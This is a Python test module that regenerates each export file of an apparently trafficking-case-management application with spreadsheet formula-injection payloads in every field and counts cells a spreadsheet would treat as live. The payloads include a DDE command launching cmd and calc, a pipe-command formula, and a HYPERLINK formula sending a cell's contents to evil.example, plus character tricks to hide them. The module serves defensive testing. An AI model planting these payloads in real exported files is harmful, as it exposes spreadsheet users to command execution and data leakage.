"""Every kind of file that the program gives out, with a formula in each text that people can fill.

Each file is opened again as a spreadsheet would open it; a cell is live that is a formula or a link, or begins with
what one spreadsheet or another takes for the beginning of one.
"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
import zipfile
from collections.abc import Callable, Iterator, Mapping
from dataclasses import replace
from datetime import UTC, date, datetime
from itertools import product
from types import SimpleNamespace
from typing import Any, Final

from python_calamine import CalamineWorkbook

from app.exports import files as exports
from app.exports.told import Sent, Told
from app.imports import service as imports
from app.statistics import files as tables
from policies.load import load_policies
from policies.model import FieldGroup
from tests.gates.disclosure import printed
from workflows.facts import CaseFacts, ClosureFacts, ScreeningFacts

__all__ = ["FILES", "holding", "live", "live_cells", "payloads"]

STARTS: Final = ("=", "+", "-", "@", "|", "%", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\uff5c")
HIDES: Final = (
    "", " ", "\ufeff", "\u200b", "\u200e", "\u2060", "\x00", "\x1f", "\u00a0", "\u3000", "\u00ad \ufeff", "'\u200b",
)  # fmt: skip
BODIES: Final = (
    "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example/?"&A1,"open")', 'DDE("cmd","/C calc.exe","!A1")',
)  # fmt: skip
MARKS: Final = ("/C calc", "evil.example")
# What spreadsheets, on one system or another, skip before they look at the first letter of a cell.
SKIPPED: Final = re.compile(
    r"^[\s\x00-\x20\x7f-\xa0\u00ad\u200b-\u200f\u2028-\u202f\u205f-\u206f\u3000\ufeff\"]+"
)
AT: Final = datetime(2026, 11, 27, tzinfo=UTC)
POLICIES: Final = load_policies()
DAY: Final = date(2026, 3, 1)
FACTS: Final = CaseFacts(
    country="TH", office="th-shelter-tak", identification="identified", care="recovering", opened_on=DAY, child=False,
    age_band="18+", sex="F", nationality="MM", exploitation="ForcedLabour", language="my",
    screening=ScreeningFacts(
        on=DAY, screener="a", indicators=3, strong=1, reasons=True, private_place=True, interpreter_vetted=True,
        informed=True, information_given=True, points=frozenset(POLICIES.codes["interview_point"].codes),
        gender_wish="met",
    ),
)  # fmt: skip


def payloads() -> list[str]:
    """Every way to begin, behind every way to hide it, with every body."""
    return [hide + start + body for hide, start, body in product(HIDES, STARTS, BODIES)]


def live(text: str) -> bool:
    """Whether a spreadsheet could take this cell for a formula; written apart from the guard on purpose."""
    seen = SKIPPED.sub("", unicodedata.normalize("NFKC", text))
    return seen[:1] in set("=+-@|%\t\r")


def live_cells(content: bytes) -> int:
    """How many cells of a file are live."""
    if content.startswith(b"PK"):
        return _formulas(content) + sum(live(text) for text in _texts(content))
    # Read with each separator that a spreadsheet may guess.
    return sum(live(cell) for separator in (",", ";", "\t") for cell in _cells(content, separator))


def holding(content: bytes) -> int:
    """How many cells of a file hold one of the payloads, live or not: without any, a file proves nothing."""
    if content.startswith(b"PK"):
        cells: Iterator[str] = _texts(content)
    else:
        cells = _cells(content, ",")
    return sum(any(mark in cell for mark in MARKS) for cell in cells)


def _cells(content: bytes, separator: str) -> Iterator[str]:
    """Every cell of a CSV file; a stamp that counts much may be long."""
    before = csv.field_size_limit(10_000_000)
    try:
        for row in csv.reader(io.StringIO(content.decode("utf-8"), newline=""), delimiter=separator):
            yield from row
    finally:
        csv.field_size_limit(before)


def _texts(content: bytes) -> Iterator[str]:
    """Every text of a workbook, as another program reads it."""
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    for name in book.sheet_names:
        for row in book.get_sheet_by_name(name).to_python():
            yield from (cell for cell in row if isinstance(cell, str))


def _formulas(content: bytes) -> int:
    """Formulas, links and what else is no plain cell, by the parts of the file themselves."""
    book = zipfile.ZipFile(io.BytesIO(content))
    sheets = [book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/")]
    parts = [name for name in book.namelist() if "externalLink" in name or "vba" in name.lower()]
    return len(parts) + sum(len(re.findall(r"<f[ >/]|<hyperlink|t=\"str\"|<oleLink|<ddeLink", each)) for each in sheets)


def _table(form: str) -> bytes:
    texts = payloads()
    document = printed({(each, f"{each} "): 20 for each in texts}, frozenset(), 11)
    first, revision = texts[0], document.revision.model_copy(update={"changed": texts[1]})
    document = document.model_copy(
        update={"title": first, "what": first, "note": first, "channel": [first], "revision": revision}
    )
    return tables.as_csv(document) if form == "csv" else tables.as_workbook(document, AT)


def _list(form: exports.Format) -> bytes:
    """The plain list: each text of a row is one that somebody wrote, or that came from another program."""
    desk: Any = SimpleNamespace(policies=POLICIES, actor=SimpleNamespace(roles=frozenset(POLICIES.roles)), now=AT)
    told = ("presumed_on", "referral_state", "closure", "legal_hold", "asylum_claim", "missing", "protection_risk")
    words = ("reference", "office", "identification", "age_band", "sex", "nationality", "exploitation")
    rows: list[Any] = [
        SimpleNamespace(
            **dict.fromkeys(words, each), care="recovering", child=False, opened_at=AT,
            facts=json.dumps(dict.fromkeys(told, each)),
        )
        for each in payloads()
    ]  # fmt: skip
    return exports.made(desk, form, rows, payloads()[0]).content


def _records(form: exports.Format) -> bytes:
    closed = replace(FACTS, care="closed", closure=ClosureFacts(DAY, "reintegrated", True, True, False))
    names = ("given_names", "family_name", "phone", "place_of_origin")
    cases = [
        Told(
            "c", each, replace(closed if at % 2 else FACTS, nationality=each, case_manager=each), each,
            frozenset(FieldGroup), {**dict.fromkeys(names, each), "other_names": [each]},
            {
                "care_plan": {"objectives": each, "planned_end": each, "ended_on": each,
                              "goals": [{"what": each, "part_of_life": each}]},
                "reintegration_plan": {"objectives": each}, "identification_decision": {"decided_by": each},
            },
            (Sent("receiver", each, "closed", DAY, DAY), Sent("sender", each, "accepted", DAY, DAY)),
        )
        for at, each in enumerate(payloads())
    ]  # fmt: skip
    return exports.written(POLICIES, form, cases, payloads()[0], made_at=AT).content


def _import_report() -> bytes:
    """Names of columns are those of somebody's file, and a refusal may repeat them."""
    row: Any = SimpleNamespace(
        id="i", rows=1, source_system=payloads()[0], file_digest="0", mapping=payloads()[1], mapping_version=1
    )
    lines: list[Any] = [
        SimpleNamespace(line=at, outcome="refused", findings=json.dumps([
            {"column": each, "rule": "unknown_code", "value_class": "formula", "said": each},
        ]))
        for at, each in enumerate(payloads(), 2)
    ]  # fmt: skip
    return imports.written(row, "check", lines)


FILES: Final[Mapping[str, Callable[[], bytes]]] = {
    "table.csv": lambda: _table("csv"),
    "table.xlsx": lambda: _table("xlsx"),
    "list.csv": lambda: _list("csv"),
    "list.xlsx": lambda: _list("xlsx"),
    "htcds.csv": lambda: _records("htcds_csv"),
    "htcds.xlsx": lambda: _records("htcds_xlsx"),
    "import-report.csv": _import_report,
}
